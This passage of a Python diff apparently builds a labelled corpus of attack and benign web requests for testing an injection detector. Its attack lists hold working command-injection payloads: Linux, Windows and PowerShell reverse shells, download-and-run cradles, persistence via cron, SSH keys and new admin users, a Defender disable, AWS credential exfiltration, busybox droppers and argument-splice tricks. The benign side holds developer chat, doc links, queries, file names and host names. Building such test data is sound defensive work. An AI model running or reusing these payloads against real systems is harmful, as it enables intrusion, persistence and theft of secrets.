+    ("revshell", ";0<&196;exec 196<>/dev/tcp/203.0.113.7/4444; sh <&196 >&196 2>&196"),
+    ("revshell", ";ncat 203.0.113.7 4444 -e /bin/bash"),
+    ("revshell", ";telnet 203.0.113.7 4444 | /bin/sh | telnet 203.0.113.7 4445"),
+    ("revshell", ";awk 'BEGIN{s=\"/inet/tcp/0/203.0.113.7/4444\";while(1){printf \"> \"|&s;s|&getline c;"
+                 "if(c){while((c|&getline)>0)print|&s;close(c)}}}'"),
+    ("revshell", ";nohup bash -c 'bash -i >& /dev/tcp/203.0.113.7/8080 0>&1' &"),
+    ("revshell", ";curl -s http://203.0.113.7/rs.sh | bash"),
+    ("revshell", ";echo 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIOqk0 op' >> ~/.ssh/authorized_keys"),
+    ("revshell", ";(crontab -l;echo '* * * * * bash -c \"bash -i >& /dev/tcp/203.0.113.7/4444 0>&1\"')|crontab -"),
+    ("windows", "& dir C:\\"),
+    ("windows", "| type C:\\Windows\\win.ini"),
+    ("windows", "&& whoami /priv"),
+    ("windows", "| net user"),
+    ("windows", "& net user svc_bk P@ssw0rd! /add & net localgroup administrators svc_bk /add"),
+    ("windows", "|| systeminfo"),
+    ("windows", "& %COMSPEC% /c whoami"),
+    ("windows", "& cmd.exe /c \"type %SYSTEMROOT%\\system32\\drivers\\etc\\hosts\""),
+    ("windows", "& w^h^o^a^m^i"),
+    ("windows", "& set x=who&& set y=ami&& call %x%%y%"),
+    ("windows", "&who\"\"ami"),
+    ("windows", "& certutil -urlcache -split -f http://203.0.113.7/p.exe %TEMP%\\p.exe & %TEMP%\\p.exe"),
+    ("windows", "& bitsadmin /transfer j /download /priority high http://203.0.113.7/a.exe "
+                "C:\\Users\\Public\\a.exe"),
+    ("windows", "| mshta http://203.0.113.7/a.hta"),
+    ("windows", "& regsvr32 /s /n /u /i:http://203.0.113.7/f.sct scrobj.dll"),
+    ("windows", "& rundll32 \\\\203.0.113.7\\share\\x.dll,Start"),
+    ("windows", "| wmic process call create \"cmd /c calc.exe\""),
+    ("windows", "& findstr /si password *.config *.xml *.ini"),
+    ("windows", "& reg query HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run"),
+    ("windows", "& schtasks /create /sc minute /tn upd /tr \"cmd /c C:\\Users\\Public\\a.exe\""),
+    ("windows", "& for /f \"tokens=*\" %i in ('whoami') do nslookup %i.x.oast.example"),
+    ("windows", "& cmd /v:on /c \"set a=who&&set b=ami&&!a!!b!\""),
+    ("windows", "& copy \\\\203.0.113.7\\s\\nc.exe %TEMP%\\nc.exe & %TEMP%\\nc.exe -e cmd.exe 203.0.113.7 4444"),
+    ("windows", "& echo ^<?php system($_GET[c]); ?^> > C:\\inetpub\\wwwroot\\s.php"),
+    ("powershell", "; powershell -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBi"
+                   "AEMAbABpAGUAbgB0ACkALgBEAG8AdwBuAGwAbwBhAGQAUwB0AHIAaQBuAGcAKAAnAGgAdAB0AHAAOgAvAC8AMgAwADMA"
+                   "LgAwAC4AMQAxADMALgA3AC8AYQAuAHAAcwAxACcAKQA="),
+    ("powershell", "| powershell IEX(New-Object Net.WebClient).DownloadString('http://203.0.113.7/a.ps1')"),
+    ("powershell", "& powershell -c \"iwr http://203.0.113.7/p.exe -OutFile $env:TEMP\\p.exe; & $env:TEMP\\p.exe\""),
+    ("powershell", "& powershell.exe -ExecutionPolicy Bypass -File \\\\203.0.113.7\\s\\r.ps1"),
+    ("powershell", "; Invoke-Expression (Invoke-WebRequest -UseBasicParsing http://203.0.113.7/x).Content"),
+    ("powershell", "| pwsh -c 'Get-Content C:\\Windows\\win.ini'"),
+    ("powershell", "; i`e`x('who'+'ami')"),
+    ("powershell", "& powershell -enc dwBoAG8AYQBtAGkAOwAgAFMAdABhAHIAdAAtAFMAbABlAGUAcAAgADUA"),
+    ("powershell", "; &([scriptblock]::Create('whoami'))"),
+    ("powershell", "; &(\"{1}{0}\" -f 'ex','i') 'whoami'"),
+    ("powershell", "; .($env:ComSpec[4,15,25]-join'') 'whoami'"),
+    ("powershell", "; $c=New-Object System.Net.Sockets.TCPClient('203.0.113.7',4444);$s=$c.GetStream();"
+                   "[byte[]]$b=0..65535|%{0};while(($i=$s.Read($b,0,$b.Length)) -ne 0){"
+                   "$d=(New-Object Text.ASCIIEncoding).GetString($b,0,$i);$r=(iex $d 2>&1|Out-String);"
+                   "$s.Write(([text.encoding]::ASCII).GetBytes($r),0,$r.Length)}"),
+    ("powershell", "; Start-Process cmd -ArgumentList '/c whoami > C:\\temp\\o.txt'"),
+    ("powershell", "| powershell -w 1 -c \"Invoke-RestMethod -Uri http://203.0.113.7/c -Method Post "
+                   "-Body (Get-Content $env:USERPROFILE\\.aws\\credentials -Raw)\""),
+    ("powershell", "; Set-MpPreference -DisableRealtimeMonitoring $true"),
+    ("powershell", "; [Reflection.Assembly]::Load((New-Object Net.WebClient).DownloadData('http://203.0.113.7/a.dll'))"),
+    ("powershell", "|powershell \"gc C:\\inetpub\\wwwroot\\web.config\""),
+    ("busybox", ";busybox nc 203.0.113.7 4444 -e /bin/sh"),
+    ("busybox", ";busybox wget http://203.0.113.7/mips -O /tmp/m;chmod +x /tmp/m;/tmp/m"),
+    ("busybox", ";busybox telnetd -l /bin/sh -p 9999"),
+    ("busybox", ";cd /tmp;tftp -g -r arm7 203.0.113.7;chmod 777 arm7;./arm7 router"),
+    ("busybox", "$(busybox ash -c id)"),
+    ("busybox", ";busybox httpd -p 8081 -h /"),
+    ("busybox", ";/bin/busybox MIRAI"),
+    ("busybox", "`busybox cat /etc/shadow`"),
+    ("busybox", ";busybox ftpget 203.0.113.7 /tmp/b b && sh /tmp/b"),
+    ("busybox", ";busybox sh -i 2>&1 | busybox nc 203.0.113.7 53"),
+    # Options and commands spliced into the arguments a web feature builds for a tool.
+    ("argsplice", "8.8.8.8 -c 1; id"),
+    ("argsplice", "127.0.0.1 && curl 203.0.113.7/p|sh"),
+    ("argsplice", "-c 1 -p $(id|xxd -p|head -c 32) 203.0.113.7"),
+    ("argsplice", "example.com | whoami"),
+    ("argsplice", "-q=txt $(whoami).example.com"),
+    ("argsplice", "google.com\ncat /etc/passwd"),
+    ("argsplice", "https://example.com/x.jpg\"|ls \"-la"),
+    ("argsplice", "push graphic-context\nviewbox 0 0 640 480\nfill 'url(https://127.0.0.1/x.jpg\"|id; \")'\n"
+                  "pop graphic-context"),
+    ("argsplice", "msl:/tmp/php8a1.msl"),
+    ("argsplice", "ephemeral:/var/www/html/index.php"),
+    ("argsplice", "-write /var/www/html/s.php"),
+    ("argsplice", "label:@/etc/passwd"),
+    ("argsplice", "%!PS\nuserdict /setpagedevice undef\nlegal\n{ null restore } stopped { pop } if\n"
+                  "{ legal } stopped { pop } if\nrestore\nmark /OutputFile (%pipe%id) currentdevice putdeviceprops"),
+    ("argsplice", "#EXTM3U\n#EXT-X-MEDIA-SEQUENCE:0\n#EXTINF:10.0,\n"
+                  "concat:http://203.0.113.7/header.m3u8|file:///etc/passwd\n#EXT-X-ENDLIST"),
+    ("argsplice", "subfile,,start,0,end,4096,,:/etc/passwd"),
+    ("argsplice", "--upload-pack=touch /tmp/pwned"),
+    ("argsplice", "ext::sh -c touch% /tmp/pwned"),
+    ("argsplice", "-c core.sshCommand='sh -c id'"),
+    ("argsplice", "-c core.fsmonitor=\"curl 203.0.113.7/g|sh\""),
+    ("argsplice", "ssh://-oProxyCommand=curl${IFS}203.0.113.7|sh/repo"),
+    ("argsplice", "--output=/var/www/html/s.php"),
+    ("argsplice", "--checkpoint=1 --checkpoint-action=exec=sh shell.sh"),
+    ("argsplice", "--use-compress-program='sh -c id'"),
+    ("argsplice", "--to-command=id"),
+    ("argsplice", "-T -TT 'sh -c id' x.zip"),
+    ("argsplice", "--unzip-command=\"sh -c id\""),
+    ("argsplice", "http://example.com -o /var/www/html/s.php"),
+    ("argsplice", "file:///etc/passwd -o /var/www/html/p.txt"),
+    ("argsplice", "http://203.0.113.7/s.txt -O /var/www/html/s.php"),
+    ("argsplice", "-be '${run{/usr/bin/id}}'"),
+    ("argsplice", "-oProxyCommand=sh -c 'id>/tmp/o' x"),
+    ("argsplice", "-e 'sh -c id' host:/tmp"),
+    ("argsplice", "-name x -exec id \\;"),
+    ("argsplice", "-fprintf /var/www/html/s.php '<?php system($_GET[c]);?>'"),
+    ("argsplice", "s/.*/id/e"),
+    ("argsplice", "(metadata \"\\c${system('id')};\")"),
+    ("argsplice", "invoice_$(id).pdf"),
+    ("argsplice", "$(id).example.com"),
+]
+
+
+def attacks() -> Iterator[dict[str, Any]]:
+    for family, payloads in (("php", PHP), ("rce", RCE)):
+        n = 0
+        for i, (sub, p) in enumerate(payloads):
+            for place, name in three_places(i, NAMES):
+                n += 1
+                yield {**_place(place, name, p), "id": f"{SET}-{family}-{n:04d}", "category": family,
+                       "sub": sub, "placement": place, "payload": p}
+
+
+# ---------------------------------------------------------------------------------------------------- benign
+
+# PHP and shell developers talking in Slack (each also saved as a profile bio).
+DEVCODE = [
+    "anyone know why `exec()` returns 127 on staging? same script works locally, I suspect PATH is different "
+    "under php-fpm",
+    "PSA: we're removing `shell_exec` from the invoice exporter, it now uses Symfony Process with an args array, "
+    "no more string concat",
+    "deploy runs `composer install --no-dev --optimize-autoloader && php artisan migrate --force`, if it fails "
+    "check the logs in #ops",
+    "cron for the sync job: `*/5 * * * * cd /srv/app && php bin/console app:sync >> /var/log/app/sync.log 2>&1`",
+    "quick q: is `escapeshellarg()` enough if we also pass the filename to ImageMagick? or should we prefix it "
+    "with `./`?",
+    "reminder that `unserialize()` on cookie data is banned, use `json_decode($raw, true)` instead. PR #4411 "
+    "fixes the last one",
+    "TIL `<?=` is always enabled since 5.4, short_open_tag only affects `<?`",
+    "the php.ini on the new boxes has `disable_functions = exec,passthru,shell_exec,system,proc_open,popen` so "
+    "the PDF thumbnailer broke",
+    "can someone review my bash? `find . -name '*.log' -mtime +7 -exec rm {} \\;` for the cleanup job",
+    "use `xargs -0` with `find -print0`, filenames with spaces bit us again: "
+    "`find uploads -type f -print0 | xargs -0 du -ch | tail -1`",
+    "if you need the 5xx from the access log: `awk '$9 >= 500' /var/log/nginx/access.log | sort | uniq -c | "
+    "sort -rn | head`",
+    "`set -euo pipefail` at the top of every script please, the backup job silently failed for a week",
+    "`$(...)` vs backticks: same thing, but `$(...)` nests without escaping. please stop using backticks in new "
+    "scripts",
+    "preg_replace with /e was removed in PHP 7, the legacy importer still uses it, migrating it to "
+    "preg_replace_callback today",
+    "the mailer bug: we passed the user's name straight into the From header, a newline in the name = extra "
+    "headers. fixed with mb_encode_mimeheader and stripping CR/LF",
+    "does `php://filter` work with `file_get_contents` on a phar? trying to read the stub in the build script",
+    "for local dev: `php -S 127.0.0.1:8000 -t public` and then `curl -i http://127.0.0.1:8000/health`",
+    "if the queue worker dies: `supervisorctl restart all && tail -f storage/logs/laravel.log`",
+    "who owns the transcode step? `ffmpeg -i input.mov -vf scale=1280:-2 -c:v libx264 -crf 23 out.mp4` keeps "
+    "timing out on 4k uploads",
+    "windows folks: in cmd it's `set FOO=bar && echo %FOO%`, in PowerShell it's `$env:FOO = 'bar'`",
+    "powershell one-liner for big files: `Get-ChildItem -Recurse | Sort-Object Length -Descending | "
+    "Select-Object -First 10`",
+    "the `.user.ini` in public/ sets `upload_max_filesize = 64M`; php-fpm rereads it every 300s "
+    "(user_ini.cache_ttl)",
+    "we don't use .htaccess anymore, the nginx config is in the infra repo. `AllowOverride None` on the old "
+    "apache box too",
+    "`git log --oneline --since='2 weeks ago' | wc -l` -> 143 commits, nice sprint everyone",
+    "tar tip: `tar -czf backup-$(date +%F).tar.gz --exclude=node_modules .` and `tar -tzf` to list before "
+    "extracting",
+    "`curl -sS -o /dev/null -w '%{http_code}\\n' https://status.example.com` for the uptime check, returns 200",
+    "don't put `curl ... | sudo bash` in the README, link to the installer and its sha256 instead",
+    "the healthcheck shells out to `ping -c 1 -W 2 $host`; now the host goes through "
+    "`filter_var($host, FILTER_VALIDATE_IP)` and `escapeshellarg` first",
+    "`call_user_func_array([$controller, $action], $params)` is how the old router dispatches, that's why the "
+    "action allowlist matters",
+    "PHP 8.2 deprecates `${var}` string interpolation, rector has a rule for it",
+    "`array_map(fn($r) => $r['id'], $rows)` or `array_column($rows, 'id')`, the second is faster",
+    "wrote a quick .env loader, it does `putenv(\"$key=$value\")` and `$_ENV[$key] = $value` like phpdotenv",
+    "ssh into the bastion: `ssh -J bastion.example.com app-01` then `sudo -u www-data php artisan tinker`",
+    "to reproduce: `echo '{\"id\": 42}' | jq '.id'` prints 42, with `jq -r` no quotes",
+    "the sendmail_path on prod is `/usr/sbin/sendmail -t -i`, so `mail()` works, but we should really use the "
+    "SMTP transport",
+    "zip export: `zip -r export.zip reports/ -x '*.tmp'`, unzip with `unzip -o export.zip -d /tmp/import`",
+    "for the cache bust we run `sed -i \"s/v=[0-9]*/v=$(date +%s)/\" templates/layout.php` in the build",
+    "`<?php declare(strict_types=1);` at the top of every new file please, phpcs enforces it from Monday",
+    "mirror of the docs: `wget -r -np -k https://docs.example.com/v2/`",
+    "nslookup still shows the old IP: `nslookup api.example.com 8.8.8.8` -> 203.0.113.20, TTL should expire in "
+    "an hour",
+    "`readfile()` streams the download, `file_get_contents` + echo is what blew the memory limit",
+    "the upload validator checks `pathinfo($name, PATHINFO_EXTENSION)` against jpg/png/gif and re-encodes with "
+    "GD, so .php uploads are rejected",
+    "heads up, a `phpinfo()` page was left on staging at /info.php, removed it",
+    "`include __DIR__ . '/../config/app.php';`, not relative paths, the cron runs from /",
+    "`Get-Content .\\app.log -Tail 50 -Wait` is the PowerShell `tail -f`",
+    "I keep typing `ls -la | grep .env` lol, it's just `ls -la .env*`",
+    "`proc_open` with the array form (PHP 7.4+) skips the shell entirely: "
+    "`proc_open(['git', 'log', '-1'], $spec, $pipes)`",
+    "`echo $PATH | tr ':' '\\n'` to see why composer isn't found",
+    "busybox images have no bash, use `#!/bin/sh` and `[ ]` instead of `[[ ]]`",
+    "`docker exec -it app sh -c 'php -m | grep -i redis'`",
+    "reflection is slow-ish but `(new ReflectionClass($obj))->getShortName()` is fine in a logger",
+    "Symfony's `$serializer->deserialize($json, Order::class, 'json')` handles the DTOs now, no more "
+    "`unserialize`",
+    "pre-commit hook runs `vendor/bin/phpstan analyse && vendor/bin/php-cs-fixer fix --dry-run`",
+    "`convert input.png -resize 200x200^ -gravity center -extent 200x200 thumb.png` for the avatars",
+    "`&&` vs `;` in the Dockerfile: with `;` a failed step doesn't stop the RUN, use `&&` or `set -e`",
+    "the regex `/^[a-z0-9_-]+$/i` is what we use for slugs, anything else gets a 422",
+    "billing ran `php artisan invoices:send --dry-run | tee /tmp/dryrun.txt`; 312 invoices, $48,210 & change",
+    "`ob_start(); include $tpl; return ob_get_clean();` is our whole template engine, don't laugh",
+    "for the Windows build agent `cmd /c \"npm ci && npm run build\"` works, the `&&` has to be inside the quotes",
+    "`Closure::fromCallable('strlen')` vs the first-class callable syntax `strlen(...)` in 8.1, same thing",
+    "`stream_get_wrappers()` on prod lists https, ftps, compress.zlib, php, file, glob, data, http, ftp, phar. "
+    "we should unregister phar",
+    "autoloader: `spl_autoload_register(fn ($c) => require __DIR__ . '/src/' . strtr($c, '\\\\', '/') . "
+    "'.php');`",
+    "`$argv[1] ?? 'default'` in the CLI script, run it as `php tools/reindex.php products`",
+    "PR for the contact form: `mail($to, $subject, $body, $headers)` -> Symfony Mailer, and `$to` goes through "
+    "filter_var",
+    "`git clone --depth 1 git@github.com:acme/theme.git vendor/theme`",
+    "log rotation: `logrotate -d /etc/logrotate.d/app` says daily, keep 14",
+    "`sleep 5` in the test is flaky, use the retry helper",
+    "on Windows Server use `Test-NetConnection db01 -Port 5432` instead of telnet",
+    "`getenv('APP_ENV')` is false under php-fpm unless `clear_env = no`, that's why the config cached "
+    "'production'",
+    "`iconv('UTF-8', 'ASCII//TRANSLIT', $s)` for the slugger, convert.iconv does the same on streams",
+    "`base64_decode($payload, true)` with strict mode, otherwise garbage decodes silently",
+    "`$_SERVER['REMOTE_ADDR']` is the LB behind nginx, use the X-Forwarded-For parser in the Request class",
+    "eval is banned by the linter (Squiz.PHP.Eval), the two exceptions in the plugin loader are allowlisted",
+    "`assert()` is a no-op in prod since zend.assertions = -1, don't use it for validation",
+    "rsync deploy: `rsync -avz --delete build/ deploy@web-01:/var/www/app/releases/$(git rev-parse --short HEAD)/`",
+    "`dir /s /b *.log | findstr /i error` works on the build box",
+    "`php -r 'echo PHP_VERSION, PHP_EOL;'` says 8.3.6 on web-02 and 8.2.18 on web-01, please align",
+    "`register_shutdown_function` is how we flush metrics on fatal errors",
+    "the .htaccess for the legacy blog: `RewriteRule ^(.*)$ index.php?q=$1 [L,QSA]`",
+    "phar build: `php -d phar.readonly=0 build/make-phar.php` then `./app.phar --version`",
+]
+
+# Documentation and Q&A pages people paste as links.
+DOC_URLS = [
+    "https://www.php.net/manual/en/function.exec.php",
+    "https://www.php.net/manual/en/function.shell-exec.php",
+    "https://www.php.net/manual/en/function.proc-open.php",
+    "https://www.php.net/manual/en/function.escapeshellarg.php",
+    "https://www.php.net/manual/en/function.unserialize.php",
+    "https://www.php.net/manual/en/wrappers.php.php",
+    "https://www.php.net/manual/en/filters.convert.php",
+    "https://www.php.net/manual/en/function.include.php",
+    "https://www.php.net/manual/en/function.preg-replace-callback.php",
+    "https://www.php.net/manual/en/function.mail.php",
+    "https://www.php.net/manual/en/configuration.file.per-user.php",
+    "https://www.php.net/manual/en/ini.core.php#ini.auto-prepend-file",
+    "https://www.php.net/manual/en/language.basic-syntax.phptags.php",
+    "https://www.php.net/manual/en/functions.variable-functions.php",
+    "https://www.php.net/manual/en/class.reflectionfunction.php",
+    "https://www.php.net/manual/en/functions.first_class_callable_syntax.php",
+    "https://www.php.net/manual/en/phar.using.stream.php",
+    "https://www.php.net/manual/en/reserved.variables.server.php",
+    "https://www.php.net/manual/en/function.assert.php",
+    "https://www.php.net/manual/en/ini.core.php#ini.disable-functions",
+    "https://man7.org/linux/man-pages/man1/bash.1.html",
+    "https://man7.org/linux/man-pages/man1/find.1.html",
+    "https://man7.org/linux/man-pages/man1/xargs.1.html",
+    "https://man7.org/linux/man-pages/man1/tar.1.html",
+    "https://man7.org/linux/man-pages/man8/ping.8.html",
+    "https://curl.se/docs/manpage.html#-o",
+    "https://www.gnu.org/software/bash/manual/html_node/Command-Substitution.html",
+    "https://www.gnu.org/software/bash/manual/html_node/Brace-Expansion.html",
+    "https://www.gnu.org/software/wget/manual/wget.html#Download-Options",
+    "https://git-scm.com/docs/git-clone#Documentation/git-clone.txt---upload-packltupload-packgt",
+    "https://imagemagick.org/script/security-policy.php",
+    "https://ffmpeg.org/ffmpeg-protocols.html#concat",
+    "https://www.busybox.net/downloads/BusyBox.html",
+    "https://ss64.com/nt/syntax-esc.html",
+    "https://learn.microsoft.com/en-us/powershell/module/microsoft.powershell.utility/invoke-expression",
+    "https://learn.microsoft.com/en-us/windows-server/administration/windows-commands/cmd",
+    "https://cheatsheetseries.owasp.org/cheatsheets/OS_Command_Injection_Defense_Cheat_Sheet.html",
+    "https://stackoverflow.com/questions/3115559/exploitable-php-functions",
+    "https://github.com/php/php-src/blob/master/ext/standard/exec.c",
+    "https://www.php.net/manual/en/function.system.php?utm_source=slack&utm_medium=share",
+]
+
+# Search queries about the same functions and commands, typed into the admin search box.
+QUERIES = [
+    "php exec vs shell_exec vs system difference",
+    "escapeshellarg windows double quotes",
+    "bash redirect stderr to stdout 2>&1",
+    "what does $? mean in bash",
+    "php unserialize allowed_classes option",
+    "preg_replace e modifier deprecated replacement",
+    "find -exec {} \\; vs +",
+    "php://input empty on POST json",
+    "file_get_contents vs curl php performance",
+    "how to disable phar stream wrapper",
+    "php include_path relative to script",
+    "auto_prepend_file per directory .user.ini",
+    "powershell Invoke-Expression alternative",
+    "cmd escape ampersand with caret ^&",
+    "busybox wget https support",
+    "ffmpeg concat demuxer file list",
+    "imagemagick policy.xml disable ghostscript",
+    "git clone --depth 1 specific branch",
+    "tar --exclude multiple patterns",
+    "curl -o vs -O",
+    "nslookup vs dig",
+    "ping -c count windows equivalent -n",
+    "proc_open pipes example",
+    "php mail() additional_parameters -f envelope sender",
+    "$_SERVER['HTTP_HOST'] vs SERVER_NAME",
+    "php short open tag <?= enabled",
+    "call_user_func_array named arguments php 8",
+    "ReflectionFunction invoke vs invokeArgs",
+    "array_map with keys php",
+    "php serialize vs json_encode speed",
+    "sleep in bash for loop",
+    "xargs -I {} example",
+    "sed -i in place macOS vs linux",
+    "awk print second column",
+    "bash brace expansion {1..10}",
+    "set -e not exiting in subshell",
+    "powershell $env:PATH add permanently",
+    "Get-ChildItem recurse filter extension",
+    "php assert zend.assertions production",
+    "what is phar deserialization",
+    "laravel APP_DEBUG true in production risk",
+    "php filter_var FILTER_VALIDATE_IP ipv6",
+    "read large file line by line php SplFileObject",
+    "php glob recursive",
+    "highlight_file syntax colors",
+    "mb_send_mail japanese encoding",
+    "sendmail -t -i meaning",
+    "bash here string <<< vs heredoc",
+    "bash ${var:-default}",
+    "what does 2>/dev/null do",
+    "crontab every 5 minutes */5",
+    "wget --post-data json",
+    "zip -r exclude folder",
+    "rsync -avz --delete dry run",
+    "nohup vs & vs disown",
+    "php eval alternative for math expressions",
+    "tr a-z A-Z uppercase",
+    "base64 -d invalid input",
+    "chmod 755 vs 644 php files",
+    "php-fpm clear_env getenv",
+]
+
+# Ordinary text full of the same punctuation, typed into forms.
+PUNCT = [
+    "Shirts $5 & up",
+    "R&D; Q3 planning",
+    "A|B test: variant B won by 4%",
+    "Tom & Jerry's Diner",
+    "Price: $12.50 | Qty: 3 | Total: $37.50",
+    "Use `npm ci` instead of `npm install` on the build server",
+    "Salt & pepper; olive oil; lemon",
+    "Terms & Conditions (rev. 4)",
+    "50% off | today only | while supplies last",
+    "$$$ savings this weekend!",
+    "Q&A session @ 3pm; bring questions",
+    "AT&T; Verizon; T-Mobile",
+    "B&B near the lake ($120/night)",
+    "Markdown: wrap code in backticks like `ls -la`",
+    "The README shows `&&` as `&amp;&amp;` on the wiki",
+    "Ben & Jerry's | Häagen-Dazs | Talenti",
+    "Rock 'n' Roll; Blues & Jazz",
+    "Mon-Fri 9-5 | Sat 10-2 | Sun closed",
+    "Invoice #4411; PO 7781; net 30",
+    "M&A pipeline - Q4; see deck",
+    "Filter: sales > $10k && region = EMEA",
+    "if (a && b) || c then escalate",
+    "Pros | Cons",
+    "Budget: $1,200 - $1,500",
+    "US$ 99.99 / EUR 89.99",
+    "Fish & chips £8.50; mushy peas £2",
+    "P&L review; cash flow; AR/AP aging",
+    "red|green|blue",
+    "Size: S | M | L | XL",
+    "Call me @ 555-0134 (M-F); text anytime",
+    "I paid $40 for parking & $12 for lunch",
+    "Wash cold; tumble dry low; do not bleach",
+    "Black & Decker drill | 20V | $89",
+    "Smith & Wesson; Johnson & Johnson; Procter & Gamble",
+    "H&M / Zara / Uniqlo",
+    "Kids eat free (Tue & Thu) | Happy hour 4-6",
+    "Cost per seat: $8/mo; annual: $80/yr",
+    "Rename the field `user_id` to `account_id`",
+    "Run `make test` before pushing; CI is slow today",
+    "`SELECT` permissions only for the BI user",
+    "Dinner for 2 @ $65 pp; tip not incl.",
+    "Oil & Gas | Mining | Utilities",
+    "Dear team; thanks for the hard work & late nights!",
+    "Version 2.3.1 | Released 2024-06-12 | Stable",
+    "Income $3,250; Rent $1,400; Savings 20%",
+    "Pick one: yes | no | maybe",
+    "Arts & Crafts; Home & Garden; Toys & Games",
+    "Reply with `STOP` to unsubscribe",
+    "Lunch & learn: intro to `git rebase` (Thu 12:30)",
+    "Hours: 8am-6pm; closed holidays",
+    "Bread $3 | Milk $2.49 | Eggs $4.19",
+    "Meet & greet; coffee & pastries provided",
+    "Room 4B; floor 2; badge required",
+    "Please keep `main` green; revert first, debug later",
+    "Total due: $1,204.77 (incl. tax & shipping)",
+    "Rock, paper & scissors",
+    "Health & Safety | HR | Legal",
+    "Color: navy | Fit: slim | Length: 32",
+    "Spend $50 & get free shipping; code SUMMER",
+    "Mac & cheese; salad; brownies",
+    "Step 1: unplug; step 2: wait 30s; step 3: plug back in",
+    "Copy the value of `$HOME` into the path box",
+    "She said \"5 & 10 store\" not \"five and dime\"",
+    "Sales & Marketing sync; agenda in the doc",
+    "The old price was $19.99 | now $14.99",
+    "Use a pipe | to separate options in the CSV header",
+    "US & Canada; EU; APAC",
+    "Q1: $2.1M | Q2: $2.4M | Q3: $2.9M",
+    "Ticket title: Login fails when password contains `&` or `;`",
+    "Bug: `$` in the display name shows as `&#36;`",
+    "Tea & biscuits at 4",
+    "Budget line: travel & entertainment; cap $500/mo",
+    "Press Ctrl+C; then type `exit`",
+    "Sizes 6-12; widths N|M|W",
+    "Cats & dogs welcome; $25 pet fee",
+    "CapEx vs OpEx; depreciation 5 yrs",
+    "Beer & wine only; no spirits",
+    "Return window: 30 days | receipt required",
+    "It's a 2-for-1 deal; $9.99 & under",
+    "Pay $0 today; $29/mo after trial",
+]
+
+# File names and host names typed into forms (uploads, diagnostics, server inventory).
+FILE_NAMES = [
+    "Q3 report (final) & notes.pdf",
+    "invoice_2024-06_v2.xlsx",
+    "backup-2024-06-01.tar.gz",
+    "deploy.sh",
+    "index.php",
+    "config.inc.php.dist",
+    "php.ini-production",
+    "my photo.jpg",
+    "IMG_20240612_101500.HEIC",
+    "résumé_ann_smith.docx",
+    "Meeting notes; June 3.docx",
+    "R&D budget.xlsx",
+    "logo@2x.png",
+    "Screenshot 2024-06-12 at 10.15.03.png",
+    "A|B results.csv",
+    "README.md",
+    ".gitignore",
+    "composer.json",
+    "Dockerfile",
+    "nginx.conf",
+    "dump-2024-06-12.sql.gz",
+    "~$budget.xlsx",
+    "video (1).mp4",
+    "song - artist [remix].mp3",
+    "draft#3.txt",
+    "2023 taxes (copy).pdf",
+    "C:\\fakepath\\photo.png",
+    "Thumbs.db",
+    "install.ps1",
+    "export_users_2024-06.csv",
+    "Tom & Jerry - poster.png",
+    "price-list $2024.pdf",
+    "setup-win64.msi",
+    "wp-config-sample.php",
+    "archive.zip",
+]
+HOST_NAMES = [
+    "db-01.internal.example.com",
+    "10.0.0.12",
+    "mail.example.org",
+    "8.8.8.8",
+    "www.example.com:8443",
+    "smtp.office365.com",
+    "nas.local",
+    "2001:db8::1",
+    "fe80::1%eth0",
+    "192.168.1.1",
+    "my-app.herokuapp.com",
+    "api.github.com",
+    "localhost",
+    "127.0.0.1:3000",
+    "example.co.uk",
+    "xn--bcher-kva.example",
+    "printer-3rd-floor.corp.example.com",
+    "ftp.example.net",
+    "vpn.acme-corp.com",
+    "host.docker.internal",
+    "db.example.com, db2.example.com",
+    "web-01 web-02 web-03",
+    "https://status.example.com/health",
+    "ns1.example.net.",
+    "*.example.com",
+    "_dmarc.example.com",
+    "[2001:db8::10]:8080",
+    "mx1.mail.protection.outlook.com",
+    "172.16.254.1/24",
+    "gitlab.example.com:2222",
+    "s3.eu-west-1.amazonaws.com",
+    "redis://cache.internal:6379/0",
+    "worker-{01..04}.example.com",
+    "192.0.2.10 - 192.0.2.20",
+    "sftp.partner-example.org",
+]
+
+
+def _punct_request(i: int, text: str) -> tuple[str, dict[str, Any]]:
+    """The i-th ordinary text, in one of five forms, rotating; returns (placement, request)."""
+    k = i % 5
+    if k == 0:
+        return "json", _json("/api/tickets", {"subject": text, "priority": "normal", "queue": "support"})
+    if k == 1:
+        return "query", _get(_query("/api/products", [("q", text), ("sort", "relevance"), ("page", "1")]))
+    if k == 2:
+        return "form", _form("/admin/notes", [("csrf_token", "t0k3n"), ("title", "note"), ("body", text)])
+    if k == 3:
+        return "json", _json("/api/users", {"name": "Ann", "note": text})
+    return "form", _form("/admin/orders/1042/comments", [("csrf_token", "t0k3n"), ("comment", text)])
+
+
+def _file_request(i: int, name: str) -> tuple[str, dict[str, Any]]:
+    k = i % 3
+    if k == 0:
+        return "json", _json("/api/files", {"filename": name, "size": 48213 + i, "content_type":
+                                            "application/octet-stream", "folder": "shared"})
+    if k == 1:
+        return "query", _get(_query("/api/files", [("name", name), ("folder", "inbox")]))
+    return "form", _form("/admin/attachments", [("csrf_token", "t0k3n"), ("original_name", name),
+                                                ("ticket", "4411")])
+
+
+def _host_request(i: int, host: str) -> tuple[str, dict[str, Any]]:
+    k = i % 3
+    if k == 0:
+        return "form", _form("/admin/tools/ping", [("csrf_token", "t0k3n"), ("host", host), ("count", "4")])
+    if k == 1:
+        return "json", _json("/api/servers", {"hostname": host, "port": 443, "env": "staging"})
+    return "query", _get(_query("/admin/tools/dns", [("domain", host), ("type", "MX")]))
+
+
+def benign() -> Iterator[dict[str, Any]]:
+    yield from chat_and_bio(DEVCODE, f"{SET}-benign-devcode")
+    yield from links_and_prose(DOC_URLS, QUERIES, f"{SET}-benign-docs", 0)
+    for i, text in enumerate(PUNCT):
+        place, rec = _punct_request(i, text)
+        yield {**rec, "id": f"{SET}-benign-punct-{i + 1:04d}", "category": "benign", "placement": place}
+    k = 0
+    for i, name in enumerate(FILE_NAMES):
+        k += 1
+        place, rec = _file_request(i, name)
+        yield {**rec, "id": f"{SET}-benign-names-{k:04d}", "category": "benign", "placement": place}
+    for i, host in enumerate(HOST_NAMES):
+        k += 1
+        place, rec = _host_request(i, host)
+        yield {**rec, "id": f"{SET}-benign-names-{k:04d}", "category": "benign", "placement": place}
+
+
+if __name__ == "__main__":
+    for record in [*attacks(), *benign()]:
+        print(json.dumps(record, ensure_ascii=False))
